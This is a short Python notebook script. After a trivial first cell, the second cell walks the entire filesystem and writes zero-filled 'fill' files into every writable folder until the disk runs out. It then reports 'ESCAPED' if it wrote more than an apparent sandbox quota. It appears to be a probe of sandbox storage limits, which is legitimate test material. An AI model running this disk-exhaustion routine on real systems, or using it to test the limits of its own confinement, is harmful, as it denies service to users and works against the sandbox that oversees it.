# %%
answer = 42


def double(x):
    return 2 * x

# %%
import os

total = 0
for folder, _, _ in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr", "/lib")):
        continue
    try:
        with open(os.path.join(folder, "fill"), "wb", 0) as file:
            while True:
                total += file.write(bytes(1 << 20))
    except OSError:
        continue
print(total >> 20, "MiB")
if total > (2 * 32 + 64 + 1) << 20:
    print("ESCAPED: more scratch than there is")
print("TRIED")
